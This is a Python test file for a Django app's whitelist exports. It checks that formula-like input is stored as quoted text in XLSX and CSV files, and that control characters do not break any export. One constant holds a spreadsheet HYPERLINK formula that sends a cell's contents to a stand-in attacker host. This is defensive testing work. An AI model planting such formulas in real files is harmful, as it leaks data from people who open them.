"""Whatever a department typed, and whatever is stored, every export of an edition writes it as text and works."""

import csv
import io

import pytest
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from apps.whitelist import exports
from apps.whitelist.models import ExportRun, WhitelistItem

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B5,"点击")'


def _export(edition):
    run = ExportRun.objects.create(edition=edition)
    assert exports.run_export(run_id=run.pk) == "done", ExportRun.objects.get(pk=run.pk).error
    edition.refresh_from_db()
    with default_storage.open(edition.export_name, "rb") as fh:
        return load_workbook(fh)["白名单"]


def _csv_rows(client, edition):
    response = client.get(f"/whitelist/{edition.pk}/items.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_formula_typed_as_a_title_is_text_in_the_xlsx_and_quoted_in_the_csv(client, published):
    item = published.items.get(name="安全教育进校园")
    WhitelistItem.objects.filter(pk=item.pk).update(name=FORMULA, content="-2+3", notes="@SUM(A1)")
    ws = _export(published)
    col = {c.value: i for i, c in enumerate(ws[3])}  # the headings row: columns follow the region's choice
    row = next(r for r in ws.iter_rows(min_row=4) if r[col["事项名称"]].value == FORMULA)
    for cell in (row[col["事项名称"]], row[col["主要内容"]], row[col["备注"]]):
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert (row[col["主要内容"]].value, row[col["备注"]].value) == ("-2+3", "@SUM(A1)")
    assert not any(c.data_type == "f" for r in ws.iter_rows() for c in r)

    rows = _csv_rows(client, published)
    at = {h: i for i, h in enumerate(rows[0])}
    line = next(r for r in rows if FORMULA in r[at["事项名称"]])
    assert line[at["事项名称"]] == "'" + FORMULA and line[at["主要内容"]] == "'-2+3" and line[at["备注"]] == "'@SUM(A1)"


def test_a_stored_control_character_does_not_break_any_export(client, published):
    item = published.items.get(name="安全教育进校园")
    WhitelistItem.objects.filter(pk=item.pk).update(name="安全\x0b教育\x08进校园", content="内容\x1f")
    ws = _export(published)
    assert "安全教育进校园" in [c.value for c in ws["B"]]
    assert any(r[2] == "安全教育进校园" for r in _csv_rows(client, published))
    assert client.get(f"/whitelist/{published.pk}/items.json").status_code == 200
    assert client.get(f"/whitelist/{published.pk}/").status_code == 200
    assert client.get(f"/whitelist/{published.pk}/export.xlsx").status_code == 200
